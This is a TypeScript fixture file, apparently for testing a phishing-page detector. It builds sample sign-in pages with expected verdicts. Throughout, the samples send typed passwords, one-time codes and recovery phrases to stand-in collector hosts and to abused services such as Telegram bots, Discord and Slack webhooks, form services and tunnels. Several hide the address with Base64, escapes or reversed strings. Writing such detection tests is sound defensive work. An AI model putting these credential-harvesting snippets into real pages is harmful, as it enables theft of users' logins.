/** Pages that hand over what is typed: by a form, by a script, by a service. */
import { EVIL, page, script, type Shape, signIn } from "./shape.ts";

const BOT = "https://api.telegram.org/bot1:A/sendMessage";
const coded = btoa(EVIL);

export const FORMS: readonly Shape[] = [
  page(
    "a form to a collector's script",
    signIn("Webmail", "", `<form method="post" action="${EVIL}">`),
    "abuse_rejected",
  ),
  page(
    "a button that sends elsewhere",
    signIn("Mailbox full", `<button form="f" formaction="${EVIL}">Keep my messages</button>`),
    "abuse_rejected",
  ),
  page(
    "a base that turns a relative form",
    `<base href="//collect.example">${signIn("Portal", "", `<form action="in">`)}`,
    "abuse_rejected",
  ),
  page(
    "a one-time code that goes elsewhere",
    `<title>Confirm</title><form action="${EVIL}"><label>The code from your SMS<input name="otp" inputmode="numeric"></label></form>`,
    "abuse_rejected",
  ),
  page(
    "a form in a frame's own page",
    `<title>Document</title><iframe srcdoc="<form action='${EVIL}'><input type=password></form>"></iframe>`,
    "abuse_rejected",
  ),
  page(
    "a form that sends by e-mail",
    signIn("Webmail", "", `<form action="mailto:a@b.example" method="post">`),
    "abuse_rejected",
  ),
  page(
    "dots in place of a password field",
    `<title>Portal</title><form action="${EVIL}"><input name="a"><input name="b" style="-webkit-text-security:disc"></form>`,
    "abuse_rejected",
  ),
  page(
    "a sign-in in two steps, of which the second page asks",
    `<title>Portal</title><form action="next.html"><input type="email" name="user"></form>`,
    "abuse_rejected",
    { "next.html": signIn("Portal", "", `<form action="${EVIL}">`) },
  ),
  page(
    "a form that a script writes",
    `<title>Document</title>${script(`document.body.innerHTML='<form action="${EVIL}"><input type="password" name="p"></form>'`)}`,
    "written_form",
  ),
  page(
    "a form that a script writes in pieces",
    `<title>Document</title><p id="p"></p>${script(`let all='<form method="post" action="${EVIL}">';all+='<input name="u">';all+='<input type="password" name="p">';p.insertAdjacentHTML("afterend",all)`)}`,
    "written_form",
  ),
  page("a form that a script's file writes", `<title>Document</title><script src="a.js"></script>`, "written_form", {
    "a.js": `$("body").html('<form action="//collect.example/in"><label>Password <input name="x"></label></form>')`,
  }),
];

export const BOTS: readonly Shape[] = [
  page(
    "a bot in the page",
    signIn("Cloud files", script(`f.onsubmit=()=>fetch("${BOT}?text="+f.pass.value)`)),
    "abuse_rejected",
  ),
  page("a bot in a file beside it", signIn("Cloud files", `<script src="js/m.js"></script>`), "abuse_rejected", {
    "js/m.js": `const t="1:A";onsubmit=()=>fetch("https://api.telegram.org/bot"+t+"/sendMessage")`,
  }),
  page("a bot's address in Base64", signIn("Cloud files", script(`u=atob("${btoa(BOT)}")`)), "abuse_rejected"),
  page(
    "a bot's address in pieces",
    signIn("Cloud files", script(`u="https://api.tele"+"gram.org/b"+"ot1:A"`)),
    "abuse_rejected",
  ),
  page(
    "a webhook of a chat",
    signIn("Team chat", script(`fetch("https://discord.com/api/webhooks/1/x",{method:"POST"})`)),
    "abuse_rejected",
  ),
  page(
    "a recovery phrase for a bot",
    `<title>Restore</title><textarea name="seed_phrase"></textarea>${script(`h="${BOT}"`)}`,
    "abuse_rejected",
  ),
];

const sends = (name: string, code: string, verdict = "collecting_script"): Shape =>
  page(name, signIn("Shared document", script(code)), verdict);

export const SCRIPTS: readonly Shape[] = [
  sends(
    "fetch",
    `f.addEventListener("submit",e=>{e.preventDefault();fetch("${EVIL}",{method:"POST",body:new FormData(f)})})`,
  ),
  sends(
    "fetch by a constant",
    `const API_URL="${EVIL}";async function go(){await fetch(API_URL,{method:"POST"})}f.onsubmit=go`,
  ),
  sends(
    "fetch by an object of settings",
    `const cfg={endpoint:"${EVIL}"};f.onsubmit=()=>fetch(cfg.endpoint+"?p="+f.pass.value)`,
  ),
  sends(
    "XMLHttpRequest",
    `f.onsubmit=()=>{const x=new XMLHttpRequest();x.open("POST","${EVIL}",true);x.send(f.pass.value)}`,
  ),
  sends("a beacon at each key", `f.pass.onkeyup=()=>navigator.sendBeacon("${EVIL}",f.pass.value)`),
  sends(
    "jQuery's ajax",
    `$("#f").submit(function(){$.ajax({type:"POST",url:"${EVIL}",data:$(this).serialize()});return false})`,
  ),
  sends("jQuery's post", `$("#f").on("submit",()=>$.post("${EVIL}",$("#f").serialize()))`),
  sends("axios", `f.onsubmit=()=>axios.post("${EVIL}",{p:f.pass.value})`),
  sends("a WebSocket", `const s=new WebSocket("wss://collect.example/live");f.pass.oninput=()=>s.send(f.pass.value)`),
  sends("a picture", `f.onsubmit=()=>{new Image().src="${EVIL}?p="+encodeURIComponent(f.pass.value)}`),
  sends("a form's action that a script sets", `f.action="${EVIL}";f.method="post"`),
  sends("the same by an attribute", `document.getElementById("f").setAttribute("action","${EVIL}")`),
  sends("an address in Base64", `fetch(atob("${coded}"),{method:"POST"})`),
  sends("an address in escapes", String.raw`fetch("\x68ttps:\/\/collect.exam\u0070le/in",{method:"POST"})`),
  page("a file beside the page", signIn("Shared document", `<script src="a.js"></script>`), "collecting_script", {
    "a.js": `document.forms[0].onsubmit=()=>fetch("${EVIL}")`,
  }),
  page("an event attribute", signIn("Shared document", "", `<form onsubmit="fetch('${EVIL}')">`), "collecting_script"),
  sends("an address that is put together while it runs", `fetch(["https:","","collect.example"].join("/"))`, "pass"),
  sends("an address backwards", `fetch("php.ni/elpmaxe.tcelloc//:sptth".split("").reverse().join(""))`, "pass"),
  page(
    "a script of another host",
    signIn("Shared document", `<script src="https://collect.example/a.js"></script>`),
    "pass",
  ),
];

const service = (name: string, rest: string): Shape => page(name, signIn("Invoice", rest), "collecting_service");
/** Where its address is also what a call names. */
const called = (name: string, rest: string): Shape =>
  page(name, signIn("Invoice", rest), "collecting_script collecting_service");

export const SERVICES: readonly Shape[] = [
  called("a spreadsheet's script", script(`fetch("https://script.google.com/macros/s/x/exec",{method:"POST"})`)),
  service("a questionnaire's answer", script(`const to="https://docs.google.com/forms/d/e/x/formResponse"`)),
  called("forms by e-mail", script(`$.post("https://formsubmit.co/ajax/a@b.example",{})`)),
  service(
    "a form for a script to fill",
    `<form id="h" action="https://formspree.io/f/x"><input type="hidden" name="p"></form>`,
  ),
  called("a tunnel", script(`fetch("https://a1b2.ngrok-free.app/log")`)),
  called("a catcher of requests", script(`navigator.sendBeacon("https://webhook.site/x")`)),
  called("a database for all", script(`fetch("https://x-default-rtdb.firebaseio.com/l.json",{method:"POST"})`)),
  service("a script that mails", `<script src="https://smtpjs.com/v3/smtp.js"></script>`),
  page(
    "a code for a chat's hook",
    `<title>Confirm</title><input autocomplete="one-time-code">${script(`u="https://hooks.slack.com/services/x"`)}`,
    "collecting_service",
  ),
];
